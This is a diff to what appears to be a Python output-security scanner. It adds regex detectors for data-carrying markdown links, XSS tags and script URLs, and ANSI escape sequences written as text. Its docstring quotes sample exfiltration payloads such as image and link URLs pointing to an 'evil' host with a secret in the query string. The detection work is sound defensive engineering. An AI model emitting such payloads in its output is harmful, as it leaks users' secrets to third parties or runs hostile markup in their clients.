@@ -1,10 +1,21 @@
-"""Output that attacks the client rather than leaking a value (SECURITY_TESTS I9).
+r"""Output that attacks the client rather than leaking a value (SECURITY_TESTS I9).
 
 - markdown_image: `![x](https://evil/?q=<secret>)` makes the client's renderer send
   data to a third party with no click; also raw `<img src=...>`. Hosts on the
   policy's allowlist pass.
 - ansi: terminal escape sequences (CSI, OSC hyperlinks/title, 8-bit C1) that can
   rewrite what a terminal user sees. The default marker for these is "" (strip).
+- markdown_link: a link that carries data to a host not on the allowlist: an inline
+  link `[x](https://evil/?q=<secret>)`, a reference definition `[id]: https://evil/#<secret>`
+  (which also serves reference-style images `![x][id]`) or an autolink `<https://evil/?q=...>`,
+  whose URL has a query or a fragment. One click sends it; links without data, relative
+  links and allowlisted hosts pass. Bare URLs in prose are not judged.
+- xss: active markup a client that renders HTML would run: script/iframe/object/embed/
+  svg/math/style/meta/base/form/link/frame tags, any tag with an on*= handler, and
+  javascript:/vbscript: or data:text/html URLs (in a link or anywhere).
+- ansi_text: escape sequences written as text (`\x1b[31m`, `\u001b[`, `\033[`, `\e[`, and
+  `\x1b]`/`\u001b]` OSC), which a client that unescapes text (echo -e, printf, a JSON or
+  Python string literal) turns into real ones.
 """
 
 from __future__ import annotations
@@ -57,6 +68,49 @@ def image_alternatives(allow_hosts: Iterable[str] = ()) -> tuple[list[Alternativ
     alts = [Alternative("markdown_image__markdown_image", "markdown_image", "markdown_image", _MD_IMAGE, 512 + 2048 + 300, ("![",), False),
             Alternative("markdown_image__html_image", "markdown_image", "html_image", _HTML_IMAGE, 2100, ("<img",), False)]
     return alts, {alts[0].group: markdown, alts[1].group: html}
+
+
+_URL = r"(?P<url>[^)\s>]{1,2048})"
+_MD_LINK = (r"(?<!!)\[[^\]\n]{0,512}\]\(\s{0,8}<?" + _URL + r">?(?:\s{1,8}(?:\"[^\"\n]{0,256}\"|'[^'\n]{0,256}'))?\s{0,8}\)"
+            r"|(?m:(?<=^[ \t]{0,3}))\[[^\]\n]{1,512}\]:[ \t]{0,8}<?(?P<ref>[^\s>]{1,2048})>?"
+            r"|<(?P<auto>(?i:https?)://[^\s>]{1,2048})>")
+_XSS_TAGS = "script|iframe|frame|frameset|object|embed|applet|svg|math|style|meta|base|form|link|template|portal"
+_XSS = (r"(?i:<\s{0,4}(?:" + _XSS_TAGS + r")(?![a-z0-9-])[^>]{0,2048}>?"
+        r"|<[a-z][a-z0-9-]{0,30}(?:\s|/)[^>]{0,2048}?(?<=[\s/\"'])on[a-z]{3,30}\s{0,8}=[^>]{0,2048}>?)")
+_XSS_URL = r"(?i:(?<![a-z0-9])(?:java|vb)script\s{0,8}:|(?<![a-z0-9])data\s{0,4}:\s{0,4}text/html)"
+_ANSI_TEXT = (r"(?i:\\(?:x1b|u001b|u\{1b\}|0?33|e)(?:\[[0-?]{0,64}[ -/]{0,8}[@-~]?|\][^\n]{0,512}?(?:\\a|\\x07|\\u0007|\\x1b\\\\|\\033\\\\|$)))")
+
+
+def link_alternatives(allow_hosts: Iterable[str] = ()) -> tuple[list[Alternative], dict[str, Check]]:
+    """Links whose URL carries data (a query or a fragment) to a host not on the allowlist."""
+    allowed = frozenset(h.lower() for h in allow_hosts)
+
+    def carries_data(m) -> bool:
+        url = m.group("url") or m.group("ref") or m.group("auto") or ""
+        low = url.lower()
+        if not low.startswith(("http:", "https:", "//")):
+            return False  # relative, mailto:, anchors; javascript: is xss's
+        host = _host(url)
+        if host and (host in allowed or any(host.endswith("." + a) for a in allowed)):
+            return False
+        rest = url.split("?", 1)[1] if "?" in url else ""
+        frag = url.split("#", 1)[1] if "#" in url else ""
+        return bool(rest.strip("&=") or frag)
+
+    alts = [Alternative("markdown_link__markdown_link", "markdown_link", "markdown_link", _MD_LINK, 512 + 2048 + 300,
+                        ("[", "<http"), False)]
+    return alts, {alts[0].group: carries_data}
+
+
+def xss_alternatives() -> list[Alternative]:
+    # Tags anchor on "<" anywhere; script URLs on their scheme at a word start (fewer hold-backs).
+    return [Alternative("xss__markup", "xss", "markup", _XSS, 4200, ("<",), False),
+            Alternative("xss__script_url", "xss", "script_url", _XSS_URL, 40, ("javascript", "vbscript", "data"), True)]
+
+
+def ansi_text_alternatives() -> list[Alternative]:
+    return [Alternative("ansi_text__ansi_text", "ansi_text", "ansi_text", _ANSI_TEXT, 600,
+                        ("\\x1b", "\\u001b", "\\u{1b}", "\\033", "\\33", "\\e"), False)]
 
 
 def ansi_alternatives() -> list[Alternative]:
